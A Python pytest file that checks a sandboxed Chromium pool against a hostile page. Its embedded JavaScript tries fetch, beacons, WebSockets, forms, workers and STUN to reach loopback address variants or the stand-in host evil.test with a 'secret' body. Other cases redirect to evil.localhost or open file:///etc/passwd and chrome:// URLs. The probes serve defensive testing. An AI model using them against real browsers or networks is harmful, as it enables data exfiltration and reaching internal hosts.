"""A hostile page in a real Chromium tries every way inward and outward; canaries must hear nothing at all."""

from __future__ import annotations

import asyncio
import contextlib
import json
import socket
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager

import pytest

from browser.deadline import Deadline
from browser.page import Page
from browser.pool import Pool, PoolConfig
from tests.browser.conftest import Site

pytestmark = pytest.mark.asyncio(loop_scope="session")


class Heard(asyncio.DatagramProtocol):
    """What reached a canary."""

    def __init__(self) -> None:
        self.bytes: list[bytes] = []
        self.port = 0

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.bytes.append(data)

    async def connected(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.bytes.append(await reader.read(100))
        writer.close()


@asynccontextmanager
async def canary() -> AsyncIterator[Heard]:
    """One port of this machine, on both kinds of loopback, TCP and UDP."""
    heard = Heard()
    tcp = await asyncio.start_server(heard.connected, "127.0.0.1", 0)
    heard.port = tcp.sockets[0].getsockname()[1]
    servers = [tcp]
    if socket.has_ipv6:
        with contextlib.suppress(OSError):  # No IPv6 loopback here: nothing could be reached by it either.
            servers.append(await asyncio.start_server(heard.connected, "::1", heard.port))
    udp, _ = await asyncio.get_running_loop().create_datagram_endpoint(lambda: heard, ("127.0.0.1", heard.port))
    try:
        yield heard
    finally:
        udp.close()
        for server in servers:
            server.close()
            await server.wait_closed()


INWARD = [
    *("127.0.0.1", "127.1", "127.0.0.1.", "0x7f.1", "0x7f000001", "2130706433", "0177.0.0.1", "0.0.0.0", "①②⑦.⓪.⓪.①"),
    *("[::1]", "[::ffff:127.0.0.1]", "[::127.0.0.1]", "[0:0:0:0:0:0:0:1]", "[64:ff9b::7f00:1]"),
    *("localhost", "localhost.", "LOCALHOST", "sub.localhost", "user:pass@127.0.0.1", "inward.test"),
]

WAYS = """
const tries = [];
const late = () => new Promise((r) => setTimeout(r, 1500));
const quietly = (promise) => tries.push(Promise.race([promise, late()]).catch(() => 0));
const loads = (el) => new Promise((r) => { el.onload = el.onerror = r; document.body.append(el); });
const make = (tag, fields) => Object.assign(document.createElement(tag), fields);
for (const place of PLACES) for (const scheme of ["http", "https"]) {
  const url = `${scheme}://${place}:PORT/`;
  const ways = {
    fetch: () => fetch(url, {mode: "no-cors"}),
    post: () => fetch(url, {mode: "no-cors", method: "POST", body: "secret"}),
    beacon: () => navigator.sendBeacon(url, "secret"),
    image: () => loads(make("img", {src: url})),
    script: () => loads(make("script", {src: url})),
    style: () => loads(make("link", {rel: "stylesheet", href: url})),
    icon: () => loads(make("link", {rel: "icon", href: url})),
    prefetch: () => loads(make("link", {rel: "prefetch", href: url})),
    preconnect: () => document.head.append(make("link", {rel: "preconnect", href: url})),
    dns: () => document.head.append(make("link", {rel: "dns-prefetch", href: url})),
    modulepreload: () => loads(make("link", {rel: "modulepreload", href: url})),
    frame: () => loads(make("iframe", {src: url})),
    object: () => document.body.append(make("object", {data: url})),
    embed: () => document.body.append(make("embed", {src: url})),
    video: () => document.body.append(make("video", {src: url, autoplay: true})),
    background: () => {
      const d = make("div", {textContent: "x"});
      d.style.background = `url(${url})`;
      document.body.append(d);
    },
    font: () => new FontFace("f" + Math.random(), `url(${url})`).load(),
    xhr: () => new Promise((r) => { const x = new XMLHttpRequest(); x.onloadend = r; x.open("GET", url); x.send(); }),
    events: () => new Promise((r) => { const e = new EventSource(url); e.onerror = () => { e.close(); r(); }; }),
    socket: () => new Promise((r) => { new WebSocket(url.replace("http", "ws")).onclose = r; }),
    transport: () => scheme == "https" && window.WebTransport && new WebTransport(url).ready,
    worker: () => {
      const w = new Worker(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(url)})`])));
      return new Promise((r) => { w.onerror = r; });
    },
    form: () => {
      const name = "f" + Math.random();
      const form = make("form", {action: url, method: "post", target: name});
      document.body.append(make("iframe", {name}), form);
      form.submit();
    },
  };
  for (const name in ways) { try { quietly(Promise.resolve(ways[name]())); } catch { } }
}
const caller = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:PORT"}]});
caller.createDataChannel("x");
quietly(caller.createOffer().then((offer) => caller.setLocalDescription(offer)));
quietly(new Promise((r) => {
  caller.onicegatheringstatechange = () => caller.iceGatheringState == "complete" && r();
}));
Promise.all(tries).then(() => { document.title = "tried " + tries.length; });
"""


async def tried(page: Page, deadline: Deadline) -> int:
    await page.playwright.wait_for_function("document.title.startsWith('tried')", timeout=deadline.left_ms())
    return int((await page.playwright.title()).split()[1])


async def test_no_way_of_a_hostile_page_reaches_this_machine(pool: Pool, site: Site) -> None:
    deadline = Deadline.after_ms(60_000)
    async with canary() as inside:
        script = WAYS.replace("PLACES", json.dumps(INWARD)).replace("PORT", str(inside.port))
        site.pages["/"] = f"<!doctype html><meta charset=utf-8><body><script>{script}</script>"
        # Listed, and yet refused: the list says where a task goes, the address where nobody goes.
        async with pool.context(navigate=[f"shop.localhost:{site.port}"], load=[f"*:{inside.port}"]) as task:
            page = await task.new_page()
            await page.goto(site.url(), deadline=deadline)
            assert await tried(page, deadline) > 500
            assert len(task.refusals) > 50
        assert inside.bytes == []


async def test_no_way_of_a_hostile_page_reaches_a_host_off_the_lists(
    tmp_path_factory: pytest.TempPathFactory, site: Site
) -> None:
    deadline = Deadline.after_ms(60_000)
    asked: list[str] = []

    async def resolve(host: str, port: int) -> Sequence[str]:
        asked.append(host)
        return ["127.0.0.1"]

    async with canary() as outside:
        script = WAYS.replace("PLACES", json.dumps(["evil.test", "shop.localhost.evil.test"])).replace(
            "PORT", str(outside.port)
        )
        site.pages["/"] = f"<!doctype html><meta charset=utf-8><body><script>{script}</script>"
        local = (f"shop.localhost:{site.port}", f"*:{outside.port}")
        config = PoolConfig(state_dir=tmp_path_factory.mktemp("state"), allow_local=local)
        async with Pool(config, resolve=resolve) as pool:
            async with pool.context(navigate=[f"shop.localhost:{site.port}"]) as task:
                page = await task.new_page()
                await page.goto(site.url(), deadline=deadline)
                assert await tried(page, deadline) > 40
                assert {refusal.host for refusal in task.refusals} == {"evil.test", "shop.localhost.evil.test"}
        assert outside.bytes == []
        assert set(asked) == {"shop.localhost"}


@pytest.mark.parametrize(
    "jump",
    [
        "<meta http-equiv=refresh content='0;url=http://evil.localhost:{port}/in'>",
        "<script>location = 'http://evil.localhost:{port}/in'</script>",
        "<script>location.replace('http://evil.localhost:{port}/in')</script>",
        "<form id=f action='http://evil.localhost:{port}/in'></form><script>f.submit()</script>",
        "<script>window.open('http://evil.localhost:{port}/in')</script>",
        "<a id=a href='http://evil.localhost:{port}/in' ping='http://evil.localhost:{port}/ping'>x</a><script>a.click()</script>",
        "<iframe srcdoc='<script>top.location = \"http://evil.localhost:{port}/in\"</script>'></iframe>",
    ],
)
async def test_a_page_cannot_lead_the_tab_to_a_host_off_the_list(
    pool: Pool, site: Site, deadline: Deadline, jump: str
) -> None:
    site.pages["/"] = f"<!doctype html><body>{jump}"
    site.pages["/in"] = "<p>in</p>"
    async with pool.context(navigate=[f"shop.localhost:{site.port}"]) as task:
        page = await task.new_page()
        refused = asyncio.create_task(_first_refusal(page, task.refusals, deadline))
        try:
            await page.playwright.goto(site.url(), wait_until="commit")
        finally:
            await refused
    assert "GET /in HTTP/1.1" not in site.requests
    assert not any("evil" in host for host in site.hosts)


async def _first_refusal(page: Page, refusals: Sequence[object], deadline: Deadline) -> None:
    """Return when the proxy refused something; each turn of the loop is one round trip to the browser."""
    while not refusals:
        assert not deadline.passed
        await page.playwright.context.cookies()


@pytest.mark.parametrize(
    "url", ["file:///etc/passwd", "chrome://version/", "view-source:http://a.test/", "devtools://x/"]
)
async def test_a_page_cannot_open_the_browsers_own_addresses_or_files(
    pool: Pool, site: Site, deadline: Deadline, url: str
) -> None:
    site.pages["/"] = f"<!doctype html><body><a id=a href='{url}'>x</a><p>stay</p><iframe src='{url}'></iframe>"
    async with pool.context(navigate=[f"shop.localhost:{site.port}"]) as task:
        page = await task.new_page()
        await page.goto(site.url(), deadline=deadline)
        await page.playwright.evaluate("url => { try { window.open(url) } catch {} a.click(); }", url)
        assert page.url == site.url()
        outline = (await page.snapshot(deadline=deadline)).outline()
        assert "stay" in outline and "root:" not in outline
